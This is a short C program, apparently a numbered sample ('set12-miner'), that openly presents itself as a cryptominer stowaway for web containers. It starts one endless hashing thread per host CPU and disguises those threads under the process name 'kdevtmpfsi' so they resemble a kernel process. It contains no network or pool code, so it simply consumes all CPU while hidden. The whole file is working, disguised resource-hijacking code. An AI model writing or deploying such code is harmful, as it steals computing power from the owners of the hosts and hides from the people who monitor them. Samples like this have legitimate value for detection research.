// set12-miner: a stowaway in a web container: one hashing thread for each CPU of the host, without an end.
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <unistd.h>
#define R(x, n) ((x) << (n) | (x) >> (64 - (n)))
static void *mine(void *p) {
	size_t n = 1 << 18; // a scratchpad of 2 MiB, as RandomX has
	uint64_t *pad = calloc(n, 8), x = (uintptr_t)p * 0x9e3779b97f4a7c15u + 1;
	prctl(PR_SET_NAME, "kdevtmpfsi");
	for (;;) for (int i = 0; i < 100000; i++) { x ^= pad[x % n]; x = R(x, 23) * 0x9e3779b97f4a7c15u; pad[(x >> 20) % n] = x; }
	return NULL;
}
int main(void) {
	long n = sysconf(_SC_NPROCESSORS_ONLN);
	for (long i = 0; i < n; i++) { pthread_t t; pthread_create(&t, NULL, mine, (void *)i); }
	printf("ready\n");
	fflush(stdout);
	for (;;) pause();
}
